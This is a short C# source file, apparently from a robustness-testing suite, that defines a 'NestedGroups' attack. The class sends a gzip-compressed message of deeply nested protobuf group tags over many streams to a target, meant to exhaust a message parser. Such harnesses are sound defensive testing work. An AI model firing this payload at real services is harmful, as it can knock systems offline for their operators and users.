using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Messages;

/// <summary>Groups in groups in groups, as deep as a message takes.</summary>
internal sealed class NestedGroups : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target)
    {
        byte[] message = Requests.Framed(Requests.Gzip(((ReadOnlySpan<byte>)[0xA3, 0x06]).Times(target.Count(1 << 20, 10 << 20))), compressed: true);
        return Compressed.SendAsync(target, message, streams: target.Count(4, 32));
    }
}
